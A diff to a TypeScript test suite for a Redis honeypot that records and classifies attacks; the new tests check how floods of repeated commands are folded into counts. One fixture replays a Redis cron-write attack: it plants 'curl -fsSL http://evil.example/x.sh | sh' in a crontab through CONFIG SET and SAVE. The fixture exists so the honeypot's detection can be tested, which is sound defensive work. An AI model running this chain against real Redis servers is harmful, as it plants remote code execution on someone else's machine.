@@ -130,6 +130,10 @@ describe("redscope honeypot", () => {
       jsonl,
     ]);
   });
+  // A test that failed (or was filtered out) before stopping it must not leave it running.
+  after(() => {
+    if (hp.child.exitCode === null) hp.child.kill("SIGKILL");
+  });
 
   test("an SSH-key write, a brute force and a scan are recorded and classified", async () => {
     const open = hp.ports.get("redis-5.0-open")!;
@@ -335,5 +339,112 @@ describe("redscope honeypot under a flood", () => {
       rss.stop();
       if (hp.child.exitCode === null) hp.child.kill("SIGKILL");
     }
+  });
+});
+
+describe("redscope honeypot: repetition folding", () => {
+  test("a flood of plain data commands becomes counts; a payload in the flood is still recorded", async () => {
+    const jsonl = path.join(tmp, "fold.jsonl");
+    const hp = await startHoneypot([
+      "--listen",
+      "127.0.0.1:0/redis-6.2-open",
+      "--no-db",
+      "-o",
+      jsonl,
+    ]);
+    const port = hp.ports.get("redis-6.2-open")!;
+    const cron = "\n\n*/1 * * * * curl -fsSL http://evil.example/x.sh | sh\n\n";
+    const requests: Buffer[] = [];
+    for (let i = 0; i < 1200; i++) requests.push(resp("SET", `key:${i}`, "xxx"));
+    for (let i = 0; i < 300; i++) requests.push(resp("GET", `key:${i}`));
+    for (let i = 0; i < 200; i++) requests.push(resp("PUBLISH", "news", `msg-${i}`));
+    requests.push(
+      resp("SET", "x", cron),
+      resp("CONFIG", "SET", "dir", "/var/spool/cron/crontabs"),
+      resp("CONFIG", "SET", "dbfilename", "root"),
+      resp("SAVE"),
+      resp("QUIT"),
+    );
+    const replies = await converse(port, [Buffer.concat(requests)], 1000);
+    assert.equal((replies.match(/\+OK\r\n/g) ?? []).length, 1200 + 1 + 2 + 1 + 1);
+    const stopped = await hp.stop();
+    assert.equal(stopped.code, 0, stopped.out);
+
+    const rows = fs
+      .readFileSync(jsonl, "utf8")
+      .trim()
+      .split("\n")
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
+    const session = rows.filter((r) => r.type === "session").at(-1) as {
+      commands: number;
+      classes: string;
+      record: {
+        events_recorded: number;
+        folded: Record<string, { count: number; args: number }>;
+        command_counts: Record<string, number>;
+        findings: Array<{ class: string; evidence: string[] }>;
+        indicators: { urls: string[]; cron_lines: string[] };
+      };
+    };
+    const commands = rows.filter((r) => r.type === "event" && r.kind === "command") as Array<{
+      name: string;
+      record: { args: string[] };
+    }>;
+    assert.equal(session.commands, 1705);
+    // The first 1,000 commands are all recorded; after that SET, GET and PUBLISH fold once
+    // 100 of each were recorded; the payload and the file-write chain never fold.
+    assert.deepEqual(session.record.folded, {
+      SET: { count: 200, args: 400 },
+      GET: { count: 200, args: 200 },
+      PUBLISH: { count: 100, args: 200 },
+    });
+    assert.equal(session.record.events_recorded, 1705 - 500);
+    assert.equal(commands.length, 1705 - 500);
+    assert.deepEqual(session.record.command_counts, {
+      SET: 1201,
+      GET: 300,
+      PUBLISH: 200,
+      CONFIG: 2,
+      SAVE: 1,
+      QUIT: 1,
+    });
+    assert.ok(commands.some((c) => c.name === "SET" && c.record.args[1] === cron));
+    assert.match(session.classes, /file_write_cron/);
+    assert.ok(session.record.indicators.urls.includes("http://evil.example/x.sh"));
+    // Counts include what was folded: the classifier saw 200 PUBLISH, not the 100 recorded.
+    const exfil = session.record.findings.find((f) => f.class === "exfiltration");
+    assert.ok(
+      exfil?.evidence.some((e) => e.startsWith("200 PUBLISH")),
+      JSON.stringify(exfil),
+    );
+    const close = rows.find((r) => r.type === "event" && r.kind === "close") as {
+      record: { folded?: unknown };
+    };
+    assert.deepEqual(close.record.folded, session.record.folded);
+  });
+
+  test("--record-all records every command", async () => {
+    const jsonl = path.join(tmp, "all.jsonl");
+    const hp = await startHoneypot([
+      "--listen",
+      "127.0.0.1:0/redis-6.2-open",
+      "--no-db",
+      "-o",
+      jsonl,
+      "--record-all",
+    ]);
+    const port = hp.ports.get("redis-6.2-open")!;
+    const requests: Buffer[] = [];
+    for (let i = 0; i < 1500; i++) requests.push(resp("SET", `key:${i}`, "xxx"));
+    requests.push(resp("QUIT"));
+    await converse(port, [Buffer.concat(requests)], 1000);
+    assert.equal((await hp.stop()).code, 0);
+    const rows = fs
+      .readFileSync(jsonl, "utf8")
+      .trim()
+      .split("\n")
+      .map((l) => JSON.parse(l) as { type: string; kind?: string; record: { folded?: unknown } });
+    assert.equal(rows.filter((r) => r.kind === "command").length, 1501);
+    assert.equal(rows.filter((r) => r.type === "session").at(-1)?.record.folded, undefined);
   });
 });
